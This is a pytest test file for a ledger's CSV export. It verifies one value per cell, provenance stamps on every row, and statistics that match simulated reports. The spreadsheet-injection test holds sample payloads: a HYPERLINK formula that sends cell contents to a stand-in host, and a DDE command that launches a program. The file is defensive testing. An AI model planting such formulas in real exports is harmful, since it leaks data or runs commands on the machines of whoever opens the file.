"""CSV downloads: one value per cell, every row naming its checkpoint, no cell a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ledger.keyring import Keyring
from ledger.projections.report_names import REPORT_NAMES
from ledger.projections.service import Reports
from ledger.projections.tables import ReportTable, spreadsheet_safe
from ledger.projections.tidy import (
    PROVENANCE,
    Download,
    TidyTable,
    downloads,
    tidy_table,
    tidy_tables,
)
from ledger.simulation import CityConfig, simulate
from tests.conftest import Clock, chartered_ledger


def table_of(rows: list[dict[str, Any]]) -> list[list[str]]:
    table = TidyTable(Download("t", ("cell",), ("cell",)), 1, "00", "2026-01-01T00:00:00Z", rows)
    return list(csv.reader(io.StringIO(table.to_csv())))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-1.5",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "negative-looking-text"],
)
def test_text_that_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    rows = table_of([{"cell": text}])
    assert rows[1] == ["'" + text, "1", "00", "2026-01-01T00:00:00Z"]


def test_a_list_is_never_packed_into_a_cell() -> None:
    with pytest.raises(TypeError, match="t.csv column 'cell' holds a list"):
        table_of([{"cell": ["=1+1", "P-2"]}])


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row() -> None:
    rows = table_of([{"cell": "ok\r=1+1"}, {"cell": "next"}])
    assert [row[0] for row in rows] == ["cell", "ok\r=1+1", "next"]


@pytest.mark.parametrize(
    ("number", "text"), [(-1.5, "-1.5"), (-3, "-3"), (0.25, "0.25"), (-1e-07, "-1e-07")]
)
def test_numbers_stay_numbers_even_when_negative(number: float, text: str) -> None:
    assert table_of([{"cell": number}])[1][0] == text


@pytest.mark.parametrize(
    "text", ["Lyari Front", "FIR-12", "suppressed (3/4)", "", "a=b", "'quoted"]
)
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_booleans_are_words_not_numbers() -> None:
    assert spreadsheet_safe(True) == "yes"
    assert spreadsheet_safe(None) == ""


def written_row_by_row(table: TidyTable) -> str:
    """The CSV as ``csv.writer`` writes it a row at a time, each row with its stamp."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(table.columns)
    stamp = [spreadsheet_safe(v) for v in (table.tree_size, table.root, table.as_of)]
    for row in table.rows:
        writer.writerow([spreadsheet_safe(row.get(c)) for c in table.download.columns] + stamp)
    return out.getvalue()


CELLS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True),
    st.text(
        alphabet=st.sampled_from(["a", " ", ",", '"', "\r", "\n", "\x1e", "=", "-", "@", "\t", "é"])
    ),
    st.text(),
)


@given(
    columns=st.lists(st.sampled_from("abcd"), max_size=4, unique=True),
    rows=st.lists(st.dictionaries(st.sampled_from("abcde"), CELLS), max_size=6),
    as_of=st.sampled_from(["2026-01-01T00:00:00Z", "=1+1", 'a "quoted", time']),
)
@settings(max_examples=300, deadline=None)
def test_a_table_is_written_as_the_csv_module_writes_it_row_by_row(
    columns: list[str], rows: list[dict[str, Any]], as_of: str
) -> None:
    table = TidyTable(Download("t", tuple(columns[:1]), tuple(columns)), 7, "ab", as_of, rows)
    assert table.to_csv() == written_row_by_row(table)


def test_a_mapping_is_never_packed_into_a_cell_whatever_the_column_holds_besides() -> None:
    table = TidyTable(
        Download("t", ("k",), ("k", "cell")), 1, "00", "x", [{"cell": "ok"}, {"cell": {"a": 1}}]
    )
    with pytest.raises(TypeError, match="t.csv column 'cell' holds a dict"):
        table.to_csv()


# --- the reports of a small simulated city, as tidy tables -----------------------------------
CITY = CityConfig(start=datetime(2025, 11, 1, tzinfo=UTC), seed=5, months=2, groups=3)


@pytest.fixture(scope="module")
def city(
    shared_keyring: Keyring, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Reports, Any]]:
    """The city's reports at a checkpoint signed over all of it."""
    folder = tmp_path_factory.mktemp("tidy")
    ledger = chartered_ledger(
        str(folder / "city.db"), shared_keyring, Clock(datetime(2026, 1, 20, tzinfo=UTC))
    )
    simulate(ledger, shared_keyring.directory, CITY, workers=1, batch_size=500)
    checkpoint = ledger.sign_checkpoint()
    yield Reports(ledger), checkpoint
    ledger.close()


def parsed(table: TidyTable) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(table.to_csv()))
    assert reader.fieldnames == table.columns
    rows = list(reader)
    assert all(None not in row and None not in row.values() for row in rows), "ragged row"
    return rows


@pytest.fixture(scope="module")
def files(city: tuple[Reports, Any]) -> dict[str, tuple[TidyTable, list[dict[str, str]]]]:
    reports, _ = city
    return {
        t.name: (t, parsed(t)) for name in REPORT_NAMES for t in tidy_tables(reports.report(name))
    }


EVENT_ID = re.compile(r"[0-9a-f]{64}")
PACKED = [
    re.compile(r"^\d+/\d+ \("),  # a rate as "k/n (rate, low-high)"
    re.compile(r"^suppressed \("),
    re.compile(r"^n=\d+"),  # a duration as "n=…, median …"
    re.compile(r"^-?\d+(\.\d+)? \(-?\d"),  # a ratio as "r (low-high)"
]


def packed(cell: str) -> str | None:
    """Why ``cell`` holds more than one value, or None."""
    if cell[:1] in "[{":
        try:
            if isinstance(json.loads(cell), (list, dict)):
                return "JSON"
        except ValueError:
            pass
    if len(EVENT_ID.findall(cell)) > 1:
        return "several event ids"
    for pattern in PACKED:
        if pattern.search(cell):
            return f"packed like {pattern.pattern}"
    return None


def test_the_packed_cell_check_says_no_to_what_the_old_csv_wrote() -> None:
    assert packed("11/16 (0.688, 0.444-0.858)") and packed("suppressed (3/4, 11 pending)")
    assert packed("n=19, median 39.75 (18 reached, 1 open)") and packed("2.923 (1.481-5.771)")
    assert packed('{"witness_absent": 1}') and packed(" ".join(["a" * 64, "b" * 64]))
    assert packed("Released with legal basis 'none': no lawful basis recorded.") is None
    assert packed("0.6875") is None and packed("a" * 64) is None


def test_every_file_parses_and_every_cell_holds_one_value(
    files: dict[str, tuple[TidyTable, list[dict[str, str]]]],
) -> None:
    assert len(files) == sum(len(downloads(name)) for name in REPORT_NAMES)
    for name, (_, rows) in files.items():
        for number, row in enumerate(rows, start=2):
            for column, cell in row.items():
                assert packed(cell) is None, f"{name}.csv line {number} {column}: {cell[:80]!r}"


def test_the_files_are_not_empty_where_the_city_has_data(
    files: dict[str, tuple[TidyTable, list[dict[str, str]]]],
) -> None:
    for name in ("promises", "groups", "groups-tests", "groups-survival", "groups-derived-from"):
        assert files[name][1], name


def test_every_row_names_the_checkpoint_and_time_it_was_computed_at(
    city: tuple[Reports, Any], files: dict[str, tuple[TidyTable, list[dict[str, str]]]]
) -> None:
    reports, checkpoint = city
    stamp = {
        "tree_size": str(checkpoint.size),
        "root": checkpoint.root.hex(),
        "as_of": reports.as_of,
    }
    assert reports.tree_size == checkpoint.size
    for name, (table, rows) in files.items():
        assert table.columns[-3:] == list(PROVENANCE), name
        for row in rows:
            assert {k: row[k] for k in PROVENANCE} == stamp, name


def test_main_tables_have_one_row_per_key_and_linked_rows_join_a_main_row(
    files: dict[str, tuple[TidyTable, list[dict[str, str]]]],
) -> None:
    for name, (table, rows) in files.items():
        key = table.download.key
        if table.download.parent is None:
            keys = [tuple(r[k] for k in key) for r in rows]
            assert len(keys) == len(set(keys)), f"{name}: a key {key} repeats"
        else:
            joins = table.download.joins_on
            assert joins and table.columns[: len(joins)] == list(joins), name
            known = {tuple(r[k] for k in joins) for r in files[table.download.parent][1]}
            orphans = [r for r in rows if tuple(r[k] for k in joins) not in known]
            assert not orphans, f"{name}: rows with no row in {table.download.parent}"


def test_the_columns_do_not_depend_on_the_data(city: tuple[Reports, Any]) -> None:
    """An empty report has the same files and headers as a full one."""
    reports, _ = city
    for name in REPORT_NAMES:
        full = reports.report(name)
        empty = ReportTable(name, 1, "00", "t", full.columns, [], extra={})
        assert [(t.name, t.columns) for t in tidy_tables(empty)] == [
            (t.name, t.columns) for t in tidy_tables(full)
        ]


def test_survival_curves_match_the_report_and_lifelines(
    city: tuple[Reports, Any], files: dict[str, tuple[TidyTable, list[dict[str, str]]]]
) -> None:
    from lifelines import KaplanMeierFitter

    from ledger.projections.equality import arrest_durations

    reports, _ = city
    curves = reports.report("groups").extra["km_time_to_arrest_hours"]
    rows = files["groups-survival"][1]
    written = {
        (r["group"], float(r["time_hours"])): [
            float(r[c]) for c in ("at_risk", "events", "censored", "survival", "ci_low", "ci_high")
        ]
        for r in rows
    }
    expected = {
        (group, p["time"]): [
            p[c] for c in ("at_risk", "events", "censored", "survival", "ci_low", "ci_high")
        ]
        for group, curve in curves.items()
        for p in curve
    }
    assert written == expected and len(rows) == len(expected)
    analysis = reports.analysis()
    triggers = analysis.triggers
    for group in curves:
        durations, observed = arrest_durations(
            [t for t in triggers if group in t["groups"]], analysis.judged_seconds
        )
        fitted = KaplanMeierFitter().fit(durations, observed)
        for (g, time), values in written.items():
            if g == group:
                low, high = fitted.confidence_interval_.loc[time].to_numpy()
                assert values[3] == pytest.approx(
                    fitted.survival_function_.loc[time].iloc[0], abs=1e-6
                )
                assert (values[4], values[5]) == pytest.approx((low, high), abs=1e-6)


def test_each_test_is_a_row_with_its_p_value_or_why_it_cannot_be_tested(
    city: tuple[Reports, Any], files: dict[str, tuple[TidyTable, list[dict[str, str]]]]
) -> None:
    reports, _ = city
    tests = reports.report("groups").extra["tests"]
    rows = {r["test"]: r for r in files["groups-tests"][1]}
    assert set(rows) == {t["metric"] for t in tests}
    untestable = [t for t in tests if t["p_value"] is None]
    assert untestable and len(untestable) < len(tests), "the city must have both kinds"
    for t in tests:
        row = rows[t["metric"]]
        if t["p_value"] is None:
            assert row["result"] == f"not testable: {t['reason']}" and row["p_value"] == ""
        else:
            assert float(row["p_value"]) == t["p_value"]
            assert row["result"] in (f"p = {t['p_text']}", f"p {t['p_text']}")
        assert int(row["groups_compared"]) == len(t["groups"])
    compared = [(r["test"], r["group"]) for r in files["groups-tests-groups"][1]]
    assert compared == [(t["metric"], g) for t in tests for g in t["groups"]]


def test_a_rate_is_one_column_per_part(
    city: tuple[Reports, Any], files: dict[str, tuple[TidyTable, list[dict[str, str]]]]
) -> None:
    reports, _ = city
    for source, row in zip(reports.report("groups").rows, files["groups"][1], strict=True):
        rate = source["kept_rate"]
        assert int(row["kept_rate_count"]) == rate["count"]
        assert int(row["kept_rate_denominator"]) == rate["denominator"]
        assert row["kept_rate_suppressed"] == ("yes" if rate["suppressed"] else "no")
        assert row["kept_rate_rate"] == ("" if rate["rate"] is None else str(rate["rate"]))
        assert sorted(
            r["derived_from_event"]
            for r in files["groups-derived-from"][1]
            if r["group"] == row["group"]
        ) == sorted(source["derived_from"])


def test_a_table_the_report_does_not_have_is_refused_with_its_tables_named(
    city: tuple[Reports, Any],
) -> None:
    from ledger.errors import InvalidArgument

    reports, _ = city
    assert tidy_table(reports.report("groups"), "groups-survival").name == "groups-survival"
    with pytest.raises(InvalidArgument, match="groups-survival") as refused:
        tidy_table(reports.report("groups"), "survival")
    assert refused.value.field == "--table"
